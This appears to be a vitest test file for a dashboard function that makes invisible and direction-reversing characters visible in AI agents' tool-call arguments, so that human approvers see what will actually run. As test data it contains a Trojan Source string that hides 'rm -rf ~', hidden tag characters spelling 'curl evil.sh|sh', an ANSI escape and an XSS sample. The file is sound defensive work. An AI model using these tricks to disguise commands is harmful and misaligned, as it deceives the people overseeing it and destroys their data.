import { runInNewContext } from 'node:vm';
import { describe, expect, it } from 'vitest';
import { APP_JS, REVEAL_JS } from '../../src/ui/assets/app-js.js';

/**
 * The dashboard shows agents' tool-call arguments to the human who approves them. Characters that are
 * invisible or reorder text must not let the approver read one command while another runs.
 */
const reveal = runInNewContext(`${REVEAL_JS}; reveal`) as (value: unknown) => string;

describe('dashboard text rendering: reveal', () => {
  it('writes bidi overrides, invisible format characters and tag characters as visible escapes', () => {
    // "Trojan Source": shown as `echo done # ~ fr- mr`, runs rm -rf ~.
    const trojan = '{"command":"echo done \u202E~ fr- mr \u2066# \u2069"}';
    const shown = reveal(trojan);
    expect(shown).toBe('{"command":"echo done \\u{202E}~ fr- mr \\u{2066}# \\u{2069}"}');
    const tags = 'ok' + String.fromCodePoint(...[...'curl evil.sh|sh'].map((c) => 0xe0000 + c.charCodeAt(0)));
    expect(reveal(tags)).toMatch(/^ok(\\u\{E00[0-7][0-9A-F]\}){15}$/);
    for (const c of ['\u200B', '\u200C', '\u200D', '\u200E', '\u200F', '\u2060', '\uFEFF', '\u00AD', '\u061C', '\u2028', '\u2029', '\u202A', '\u2067', '\u2068', '\u0000', '\u001B', '\r', '\u0085', '\uFE0F', String.fromCodePoint(0xe0100)]) {
      const out = reveal(`a${c}b`);
      expect(out, JSON.stringify(c)).toBe(`a\\u{${c.codePointAt(0)!.toString(16).toUpperCase()}}b`);
    }
    // An ANSI escape in a finding reason or principal name is text, not a terminal command.
    expect(reveal('\u001B[2J')).toBe('\\u{1B}[2J');
  });

  it('leaves ordinary text alone: newlines, tabs, accents, right-to-left scripts, emoji, quotes', () => {
    for (const text of ['curl -fsS https://status.example.com/health', 'line 1\n\tline 2', 'Zoë café ñandú', 'שלום עולם', 'مرحبا', '日本語', '🙂 🚀', 'it\u2019s “quoted” — fine', '<img src=x onerror=alert(1)>']) {
      expect(reveal(text)).toBe(text);
    }
    expect(reveal(42)).toBe('42');
    expect(reveal(undefined)).toBe('');
    expect(reveal(null)).toBe('');
  });

  it('is what the served script puts into the page: every text write goes through it', () => {
    expect(APP_JS).toContain(REVEAL_JS);
    const writes = APP_JS.match(/\.textContent\s*=[^;]*/g) ?? [];
    expect(writes).toEqual(['.textContent = reveal(value)']);
    const nodes = APP_JS.match(/createTextNode\([^)]*\)/g) ?? [];
    expect(nodes).toEqual(['createTextNode(reveal(c)']);
    expect(APP_JS).not.toMatch(/\.(?:innerText|nodeValue|data)\s*=/);
  });
});
